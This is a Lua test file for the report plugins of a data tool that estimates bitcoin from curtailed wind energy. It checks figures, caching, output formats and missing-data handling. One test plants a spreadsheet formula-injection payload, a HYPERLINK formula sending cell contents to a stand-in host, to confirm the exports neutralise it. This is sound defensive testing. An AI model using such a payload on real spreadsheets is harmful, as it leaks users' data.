-- Every shipped report (plugins/*.lua) on known data, with exact figures.
-- The runner and its sandbox are in report_spec.
local h = require "spec.helper"
local quarry = require "quarry"
local cjson = require "cjson"

local db = quarry.db
local ROWS = h.MAY_2031
local ENV = { QUARRY_CACHE_PREFIX = "plugins-spec:" }

local function load_data(rows) h.ingest_rows(rows, ENV) end

local report, json_report = h.reporter(ENV)

-- Bitcoin of E MWh at difficulty 100e12 after the halving, by the formula,
-- rounded as stored (12 places), computed by PostgreSQL independently.
local function btc(mwh, miner)
  return db:query_one([[SELECT round($1::numeric * 3600000000 * hashrate_th * 1e12 * 3.125
    / (power_watts * 100e12 * 4294967296)::numeric, 12)::text AS b FROM miner_models WHERE name = $2]], mwh, miner).b
end

setup(function() h.load_may_2031(db, ENV) end)

describe("monthly", function()
  it("gives each day's figures exactly", function()
    local r = json_report("monthly --month 2031-05")
    assert.are.equal(31, #r.rows) -- every day of the month, in order
    assert.are.equal("2031-05-31", r.rows[31].settlement_date)
    assert.are.same({ 0, 0, 0 }, { r.rows[3].farms, r.rows[3].curtailed_mwh, r.rows[3].btc_S9 })
    local d1, d2 = r.rows[1], r.rows[2]
    assert.are.equal("2031-05-01", d1.settlement_date) -- the key column is named after what it holds
    assert.are.same({ 2, 2, 2 }, { d1.farms, d1.periods, d1.farm_periods })
    assert.are.equal(35, d1.curtailed_mwh)
    assert.are.equal(1675, d1.paid_gbp)
    assert.are.equal(30, d2.curtailed_mwh)
    -- bitcoin: per farm-period rows, each rounded, summed
    local expect1 = db:query_one("SELECT ($1::numeric + $2::numeric)::text AS s", btc(15, "S9"), btc(20, "S9")).s
    assert.are.equal(tonumber(expect1), d1.btc_S9)
    assert.are.equal(tonumber(btc(30, "S19J_PRO")), d2.btc_S19J_PRO)
  end)

  it("keeps every digit in json and csv", function()
    local out = report("monthly --month 2031-05 --format json --no-cache")
    assert.matches('"btc_S9":' .. btc(30, "S9"):gsub("%p", "%%%0"), out)
    out = report("monthly --month 2031-05 --format csv --no-cache")
    assert.matches("\r\n2031%-05%-02,1,1,1,30,2400,", out)
    assert.matches(btc(30, "S9"):gsub("%p", "%%%0"), out)
  end)

  local function curtailed_days(r)
    local n = 0
    for _, row in ipairs(r.rows) do if row.curtailed_mwh > 0 then n = n + 1 end end
    return n
  end

  it("filters by farm and by lead party", function()
    assert.are.equal(1, curtailed_days(json_report("monthly --month 2031-05 --farm T_SGRWO-1")))
    local r = json_report("monthly --month 2031-05 --lead-party 'Dorenell Windfarm Limited'")
    assert.are.equal(2, curtailed_days(r))
    assert.are.equal(20, r.rows[1].curtailed_mwh)
  end)

  it("serves the same output from the cache, and recomputes after the data changes", function()
    local f1, f2 = h.tmpname(".json"), h.tmpname(".json")
    local _, err1 = report("monthly --month 2031-05 --format json -o " .. f1)
    local _, err2 = report("monthly --month 2031-05 --format json -o " .. f2)
    local out1, out2 = h.read(f1), h.read(f2)
    os.remove(f1)
    os.remove(f2)
    assert.matches("computed", err1)
    assert.matches("cached", err2)
    assert.are.equal(out1, out2)
    local nocache = report("monthly --month 2031-05 --format json --no-cache")
    assert.are.equal(out1, nocache)
    -- re-ingest 2031-05-02 with more energy: the month's cached report is stale
    load_data({ "2031-05-02,1,T_DOREW-1,Dorenell Windfarm Limited,-40,-3200,-80,-80,true,false" })
    local f3 = h.tmpname(".json")
    local _, err3 = report("monthly --month 2031-05 --format json -o " .. f3)
    assert.matches("computed", err3)
    assert.are.equal(40, cjson.decode(h.read(f3)).rows[2].curtailed_mwh)
    os.remove(f3)
    load_data(ROWS)
  end)
end)

describe("the other reports", function()
  it("daily: one day by farm, largest first", function()
    local r = json_report("daily --date 2031-05-01")
    assert.are.same({ "T_DOREW-1", "T_SGRWO-1" }, { r.rows[1].farm_id, r.rows[2].farm_id })
    assert.are.same({ 20, 15 }, { r.rows[1].curtailed_mwh, r.rows[2].curtailed_mwh })
    assert.are.equal(2, r.rows[2].farm_periods + 1) -- SGRWO: one farm-period, two acceptances
  end)

  it("yearly: a month's row equals the monthly total", function()
    local r = json_report("yearly --year 2031")
    local may
    for _, row in ipairs(r.rows) do if row.month == "2031-05" then may = row end end
    assert.are.equal(65, may.curtailed_mwh)
    assert.are.equal(4075, may.paid_gbp)
  end)

  it("farms: a leaderboard by farm or lead party", function()
    local r = json_report("farms --month 2031-05")
    assert.are.same({ "T_DOREW-1", "T_SGRWO-1" }, { r.rows[1].farm_id, r.rows[2].farm_id })
    assert.are.equal(50, r.rows[1].curtailed_mwh)
    r = json_report("farms --month 2031-05 --by lead_party --limit 1")
    assert.are.equal(1, #r.rows)
    assert.are.equal("Dorenell Windfarm Limited", r.rows[1].lead_party)
  end)

  it("periods: the half-hour profile", function()
    local r = json_report("periods --date 2031-05-01")
    assert.are.equal(48, #r.rows) -- every period of the day
    assert.are.same({ 40, 41 }, { r.rows[40].settlement_period, r.rows[41].settlement_period })
    assert.are.same({ 15, 20 }, { r.rows[40].curtailed_mwh, r.rows[41].curtailed_mwh })
    assert.are.equal(0, r.rows[1].curtailed_mwh)
  end)

  it("miners: the models side by side on the same energy", function()
    local r = json_report("miners --month 2031-05")
    assert.are.equal(3, #r.rows)
    assert.are.equal("S19J_PRO", r.rows[1].miner_model)
    for _, row in ipairs(r.rows) do assert.are.equal(65, row.curtailed_mwh) end
    -- without a period: a usage error, not a Lua one (it was "attempt to concatenate a nil value")
    local _, err, code = report("miners")
    assert.are.equal(2, code)
    assert.matches("the miners report needs --date, --month, --quarter or --year", err, 1, true)
  end)

  it("integrity: reports planted problems, and none once repaired", function()
    local r = json_report("integrity --month 2031-05")
    local problems = {}
    for _, row in ipairs(r.rows) do problems[row.problem] = true end
    assert.is_nil(problems["farm-periods without bitcoin rows"])
    -- writes the triggers do not see (those they see are mended before the report runs: outside_spec)
    h.unseen_write(db,
      [[DELETE FROM historical_bitcoin_calculations WHERE settlement_date = '2031-05-02' AND miner_model = 'S9']],
      [[UPDATE historical_bitcoin_calculations SET block_reward = 6.25
        WHERE settlement_date = '2031-05-01' AND miner_model = 'M20S']],
      "UPDATE bitcoin_difficulty SET difficulty = 101e12 WHERE effective_date = '2031-05-01'")
    r = json_report("integrity --month 2031-05")
    problems = {}
    for _, row in ipairs(r.rows) do problems[row.problem .. "|" .. row.date] = row end
    assert.is_not_nil(problems["farm-periods without bitcoin rows|2031-05-02"])
    assert.is_not_nil(problems["bitcoin rows with the wrong block reward|2031-05-01"])
    assert.is_not_nil(problems["bitcoin rows with a difficulty no longer in force|2031-05-01"])
    h.unseen_write(db, "UPDATE bitcoin_difficulty SET difficulty = 100e12 WHERE effective_date = '2031-05-01'")
    -- loading the same rows again rewrites nothing (none of them changed), so it mends nothing either
    load_data(ROWS)
    assert.is_not_nil(db:query_one([[SELECT 1 AS x FROM historical_bitcoin_calculations
      WHERE settlement_date = '2031-05-01' AND miner_model = 'M20S' AND block_reward = 6.25]]))
    -- what does: recomputing the bitcoin of the dates
    local _, err, code = h.quarry("miners recalculate --from 2031-05-01 --to 2031-05-31", ENV)
    assert.are.equal(0, code, err)
    r = json_report("integrity --month 2031-05")
    for _, row in ipairs(r.rows) do assert.not_matches("bitcoin", row.problem) end
  end)

  it("integrity: judges the block reward by the reward history, before 2020 too", function()
    db:exec("DELETE FROM curtailment_records WHERE settlement_date = '2019-06-01'")
    db:exec("INSERT INTO bitcoin_difficulty VALUES ('2019-05-25', 7.45e12) ON CONFLICT DO NOTHING")
    load_data({ "2019-06-01,40,T_SGRWO-1,Seagreen Wind Energy Limited,-10,-50,-5,-5,true,false" })
    local r = json_report("integrity --month 2019-06")
    for _, row in ipairs(r.rows) do assert.not_matches("block reward", row.problem) end
    assert.are.equal("12.5", db:query_one([[SELECT DISTINCT block_reward::text AS b
      FROM historical_bitcoin_calculations WHERE settlement_date = '2019-06-01']]).b:match("^12%.50*$") and "12.5")
    h.unseen_write(db, "UPDATE historical_bitcoin_calculations SET block_reward = 6.25 "
      .. "WHERE settlement_date = '2019-06-01'")
    r = json_report("integrity --month 2019-06")
    local flagged = false
    for _, row in ipairs(r.rows) do flagged = flagged or row.problem:find("block reward") ~= nil end
    assert.is_true(flagged)
    db:exec("DELETE FROM curtailment_records WHERE settlement_date = '2019-06-01'")
    db:exec("DELETE FROM historical_bitcoin_calculations WHERE settlement_date = '2019-06-01'")
    assert.are.equal(0, select(3, h.quarry("rollup refresh --date 2019-06-01", ENV)))
  end)

  it("html: one page with an SVG bar per row", function()
    local out = report("monthly --month 2031-05 --format html --no-cache")
    assert.matches("^<!DOCTYPE html>", out)
    assert.matches("<svg", out)
    local _, charts = out:gsub("<svg", "")
    assert.are.equal(2, charts) -- one for screens, one for phones
    local _, bars = out:match('<div class="chart wide">(.-)</svg>'):gsub('class="bar"', "")
    assert.are.equal(31, bars) -- a bar a day: calm days are there, at zero
    assert.not_matches("<script", out)
  end)
end)

-- docs/OUTPUT.md: every shipped report's json is of shape quarry.report/1,
-- and its csv has the same columns and, with totals, the total row last.
describe("every shipped report's output", function()
  local RUNS = {
    daily = "--date 2031-05-01", monthly = "--month 2031-05", yearly = "--year 2031", farms = "--month 2031-05",
    miners = "--month 2031-05", periods = "--month 2031-05", integrity = "--month 2031-05",
  }
  local NUMERIC = { numeric = true, int8 = true, int4 = true, int2 = true, float8 = true, float4 = true }
  for name, args in pairs(RUNS) do
    it(name .. " follows quarry.report/1", function()
      local out, err, code = report(name .. " " .. args .. " --format json --no-cache")
      assert.are.equal(0, code, err)
      local r = cjson.decode(out)
      assert.are.equal("quarry.report/1", r.schema)
      assert.are.equal(name, r.report)
      assert.are.equal("string", type(r.title))
      assert.are.equal("table", type(r.params))
      assert.is_true(#r.fields > 0)
      local names = {}
      for _, f in ipairs(r.fields) do
        assert.are.equal("string", type(f.name))
        assert.are.equal("string", type(f.type))
        assert.are.equal("string", type(f.label))
        assert.is_true(f.unit == cjson.null or type(f.unit) == "string")
        assert.are_not.equal("key", f.name) -- named after what it holds
        names[f.name] = f
      end
      local function check_row(row)
        for k, v in pairs(row) do
          local f = names[k]
          assert.is_not_nil(f, "a column that is not a field: " .. k)
          if NUMERIC[f.type] and v ~= cjson.null and k ~= r.fields[1].name then
            assert.are.equal("number", type(v), k)
          end
        end
      end
      for _, row in ipairs(r.rows) do check_row(row) end
      assert.is_true(r.totals == cjson.null or type(r.totals) == "table")
      if r.totals ~= cjson.null then
        check_row(r.totals)
        assert.are.equal("total", r.totals[r.fields[1].name])
      end
      assert.is_true(r.footer == cjson.null or type(r.footer) == "string")
      -- csv: the same columns, the total row last
      local csv = report(name .. " " .. args .. " --format csv --no-cache")
      local lines = {}
      for line in csv:gmatch("([^\r\n]*)\r\n") do lines[#lines + 1] = line end
      local header = {}
      for i, f in ipairs(r.fields) do header[i] = f.name end
      assert.are.equal(table.concat(header, ","), lines[1])
      assert.are.equal(#r.rows + 1 + (r.totals ~= cjson.null and 1 or 0), #lines)
      if r.totals ~= cjson.null then assert.matches("^total,", lines[#lines]) end
    end)
  end
end)

-- A day nobody loaded is no data, not a calm day: its row is empty, the
-- footer and the JSON say which days, and loading them (a calm one
-- included) makes the cached report stale.
describe("a period not all loaded", function()
  local ROW = "2031-08-05,7,T_DOREW-1,Dorenell Windfarm Limited,-4,-320,-80,-80,true,false"
  setup(function()
    db:exec("INSERT INTO bitcoin_difficulty VALUES ('2031-08-01', 100e12) ON CONFLICT DO NOTHING")
    for _, t in ipairs({ "curtailment_records", "curtailment_loaded_days" }) do -- an earlier run's August
      db:exec(("DELETE FROM %s WHERE settlement_date BETWEEN '2031-08-01' AND '2031-09-30'"):format(t))
    end
    h.quarry("cache clear", ENV)
    load_data({ ROW }) -- one day of August
  end)

  it("shows the days with no data empty, says which they are, and never says 'no curtailment' of them", function()
    local out, err, code = report("monthly --month 2031-08 --format json")
    assert.are.equal(0, code, err)
    local r = cjson.decode(out)
    assert.are.equal(31, #r.rows)
    assert.are.equal(cjson.null, r.rows[1].curtailed_mwh)
    assert.are.equal(cjson.null, r.rows[1].farms)
    assert.are.equal(cjson.null, r.rows[1].btc_S9)
    assert.are.equal(4, r.rows[5].curtailed_mwh)
    assert.are.same({ from = "2031-08-01", to = "2031-08-31", days = 31, loaded = 1,
      missing = { { "2031-08-01", "2031-08-04" }, { "2031-08-06", "2031-08-31" } }, partial = {}, synthetic = {},
      synthetic_days = 0, seed_difficulty = {}, seed_difficulty_days = 0, written_outside = {},
      written_outside_days = 0 }, r.coverage)
    assert.matches("no data loaded for 30 of the 31 days (2031-08-01..2031-08-04, 2031-08-06..2031-08-31)",
      r.footer, 1, true)
    assert.matches("quarry: no data loaded for 30 of the 31 days", err, 1, true) -- json has no footer to read
    local csv = report("monthly --month 2031-08 --format csv --no-cache")
    assert.matches("\r\n2031%-08%-01,,,,,,", csv) -- empty cells, not zeros
    assert.matches("\r\n2031%-08%-05,1,1,1,4,320,", csv)
    local table_out = report("monthly --month 2031-08 --no-cache")
    assert.matches("no data loaded for 30 of the 31 days", table_out, 1, true)
    -- integrity lists them as problems, range by range
    local gaps = {}
    for _, row in ipairs(json_report("integrity --month 2031-08").rows) do
      if row.problem:find("no data loaded", 1, true) then gaps[#gaps + 1] = { row.date, row.detail, row.count } end
    end
    assert.are.same({ { "2031-08-01", "to 2031-08-04", 4 }, { "2031-08-06", "to 2031-08-31", 26 } }, gaps)
    -- nothing at all loaded: the plugin's "no curtailment in this month" would be a figure quarry lacks
    local sept = cjson.decode((report("monthly --month 2031-09 --format json --no-cache")))
    assert.matches("^no data loaded for 2031%-09%-01..2031%-09%-30: nothing to report", sept.footer)
    assert.are.equal(0, sept.coverage.loaded)
    local year = cjson.decode((report("yearly --year 2031 --format json --no-cache")))
    assert.are.equal(cjson.null, year.rows[9].curtailed_mwh) -- September
    assert.are.equal(4, year.rows[8].curtailed_mwh) -- August: some of it loaded, its figure over those days
    assert.are.equal(365, year.coverage.days)
    assert.is_true(year.coverage.loaded >= 32 and year.coverage.loaded < 365) -- May whole, 08-05, ...
    assert.matches("no data loaded for %d+ of the 365 days", year.footer)
  end)

  it("loads a calm day as zero with --dates, and the cached report goes stale", function()
    local before = cjson.decode((report("monthly --month 2031-08 --format json")))
    assert.are.equal(cjson.null, before.rows[1].curtailed_mwh)
    h.ingest_rows({ ROW }, ENV, "2031-08-01..2031-08-31") -- the same row, and the month declared whole
    local out, err = report("monthly --month 2031-08 --format json")
    local after = cjson.decode(out)
    assert.are.equal(0, after.rows[1].curtailed_mwh)
    assert.are.equal(4, after.rows[5].curtailed_mwh)
    assert.are.same({}, after.coverage.missing)
    assert.are.equal(31, after.coverage.loaded)
    assert.are.equal("", err)
    assert.matches("^total: 4 MWh", after.footer)
  end)
end)

-- A name from a feed is data, never a formula: what a spreadsheet opens of
-- quarry's csv and tsv cannot run it, while json keeps the name as it is.
describe("a lead party named like a formula", function()
  it("reaches csv and tsv as text a spreadsheet shows, not a formula it runs", function()
    local party = '=HYPERLINK("http://x.invalid/?"&A1,"Totals")'
    db:exec("INSERT INTO bitcoin_difficulty VALUES ('2031-07-01', 100e12) ON CONFLICT DO NOTHING")
    load_data({ '2031-07-09,3,T_SGRWO-1,"' .. party:gsub('"', '""') .. '",-4,-200,-50,-50,true,false' })
    local args = "farms --date 2031-07-09 --by lead_party --no-cache --format "
    local csv = report(args .. "csv")
    assert.matches('\r\n"\'=HYPERLINK(""http://x.invalid/?""&A1,""Totals"")",', csv, 1, true)
    assert.is_nil(csv:find("\n=", 1, true))
    local tsv = report(args .. "tsv")
    assert.matches("\n'=HYPERLINK(", tsv, 1, true)
    assert.are.equal(party, cjson.decode((report(args .. "json"))).rows[1].lead_party)
  end)
end)


-- README's first analysis, as a new analyst runs it: the top farms by
-- payment in a quarter with S9 bitcoin, to CSV for a spreadsheet and to
-- JSON for Python; rankings cached apart, and a write in the quarter seen.
describe("a first analysis", function()
  local Q3 = {
    "2034-07-03,10,T_VKNGW-1,Viking Energy Wind Farm LLP,-100,-100,-1,-1,true,false",
    "2034-08-14,20,T_DOREW-1,Dorenell Windfarm Limited,-50,-4000,-80,-80,true,false",
    "2034-09-30,47,T_SGRWO-1,Seagreen Wind Energy Limited,-15,-75,-5,-5,true,false",
    "2034-08-20,30,T_SGRWO-1,Seagreen Wind Energy Limited,-1,-1,-1,-1,true,false", -- the day the last test rewrites
    "2034-10-01,1,T_MOWEO-1,Moray Offshore Wind East Ltd,-500,-50000,-100,-100,true,false", -- Q4: not counted
  }
  setup(function()
    for _, d in ipairs({ "2034-07-01", "2034-08-01", "2034-09-01", "2034-10-01" }) do
      db:exec("INSERT INTO bitcoin_difficulty VALUES ($1, 100e12) ON CONFLICT (effective_date) "
        .. "DO UPDATE SET difficulty = 100e12", d)
    end
    load_data(Q3)
  end)

  local function farms_of(csv)
    local out = {}
    for line in csv:gmatch("[^\r\n]+") do
      local first = line:match("^([^,]*)")
      if first:match("^T_") then out[#out + 1] = first end
    end
    return out
  end

  it("top farms by payment in a quarter, with S9 bitcoin, to CSV and to JSON for Python", function()
    local csv = h.tmpname(".csv")
    local _, err, code = h.quarry("report farms --quarter 2034-Q3 --miner S9 --sort paid_gbp -o " .. csv, ENV)
    assert.are.equal(0, code, err)
    local text = h.read(csv)
    assert.matches("^farm_id,farms,periods,farm_periods,curtailed_mwh,paid_gbp,btc_S9\r?\n", text)
    assert.are.same({ "T_DOREW-1", "T_VKNGW-1", "T_SGRWO-1" }, farms_of(text))
    assert.matches("\ntotal,3,4,4,166%.?0*,4176%.?0*,", text) -- the quarter's totals as the last row
    os.remove(csv)
    local json = h.tmpname(".json")
    _, err, code = h.quarry("report farms --quarter 2034-q3 --miner S9 --sort paid_gbp -o " .. json, ENV)
    assert.are.equal(0, code, err)
    local py = h.write(h.tmpname(".py"), [[
import json, sys
d = json.load(open(sys.argv[1]))
print(d["schema"], ",".join(r["farm_id"] for r in d["rows"]), float(d["totals"]["paid_gbp"]),
      d["params"]["quarter"], [f["unit"] for f in d["fields"] if f["name"] == "btc_S9"][0])
]])
    local p = io.popen(("python3 %s %s 2>&1"):format(py, json))
    local out = p:read("a")
    p:close()
    os.remove(py)
    os.remove(json)
    assert.are.equal("quarry.report/1 T_DOREW-1,T_VKNGW-1,T_SGRWO-1 4176.0 2034-Q3 BTC\n", out)
  end)

  it("caches each ranking apart, and a write in the quarter reaches the quarter's reports", function()
    local function top(sort) -- through the cache
      local out, err, code = report("farms --quarter 2034-Q3 --format json --sort " .. sort)
      assert(code == 0, err)
      return cjson.decode(out).rows[1].farm_id
    end
    assert.are.equal("T_DOREW-1", top("paid_gbp"))
    assert.are.equal("T_VKNGW-1", top("curtailed_mwh")) -- not the payment ranking from the cache
    assert.are.equal("T_DOREW-1", top("paid_gbp"))
    load_data({ "2034-08-20,30,T_SGRWO-1,Seagreen Wind Energy Limited,-1000,-10000,-10,-10,true,false" })
    assert.are.equal("T_SGRWO-1", top("paid_gbp"))
    assert.are.equal("T_SGRWO-1", top("curtailed_mwh"))
  end)
end)
